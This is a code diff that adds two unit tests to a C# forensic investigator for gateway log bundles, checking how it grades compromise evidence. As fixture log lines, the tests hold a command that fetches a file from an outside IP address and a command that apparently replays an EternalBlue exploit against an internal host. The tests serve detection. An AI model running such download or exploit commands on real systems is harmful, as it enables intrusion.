@@ -192,6 +192,37 @@ public sealed class InvestigatorTests : IDisposable
         Assert.Equal(InvestigationVerdict.NoTrace, result.Verdict);
     }
 
+    [Fact]
+    public void A_lead_is_shown_and_carries_no_verdict()
+    {
+        var bundle = GatewayCase.Build(new CaseOptions());
+        var file = bundle.Files.Single(f => f.Path == "var/log/bash.log");
+        bundle.Add(file.Path, bundle.Text(file.Path) + "Jan 16 09:00:00 <local7.notice> gw-raadhuis bash[7]: root on /dev/pts/0 shell_command=\"fetch http://185.178.45.221/x\"\n", file.Modified);
+
+        var result = Search(bundle.WriteTarGz(_folder.Path, "b"));
+
+        Assert.Equal("shell-known-addresses", Assert.Single(result.Findings).IndicatorId);
+        Assert.Equal(InvestigationVerdict.NoTrace, result.Verdict);
+        Assert.Contains(result.Reasons, r => r.StartsWith("1 lead to follow up", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void One_supporting_fact_is_inconclusive_and_two_are_a_break_in()
+    {
+        const string First = "Jan 16 09:00:00 <local7.notice> gw-raadhuis bash[7]: root on (null) shell_command=\"python eternalblue.replay 10.0.0.5\"\n";
+        const string Second = "Jan 16 09:00:00 <local7.notice> gw-raadhuis bash[7]: nobody on (null) shell_command=\"uname -a\"\n";
+
+        Assert.Equal(InvestigationVerdict.Inconclusive, With(First + First).Verdict);
+        Assert.Equal(InvestigationVerdict.Compromised, With(First + Second).Verdict);
+
+        CitrixOps.Investigation.Investigation With(string lines)
+        {
+            var bundle = GatewayCase.Build(new CaseOptions());
+            var file = bundle.Files.Single(f => f.Path == "var/log/bash.log");
+            return Search(bundle.Add(file.Path, bundle.Text(file.Path) + lines, file.Modified).WriteTarGz(_folder.Path, "b"));
+        }
+    }
+
     [Theory]
     [InlineData("CVE-2019-18177")]
     [InlineData("CVE-2019-1978")]
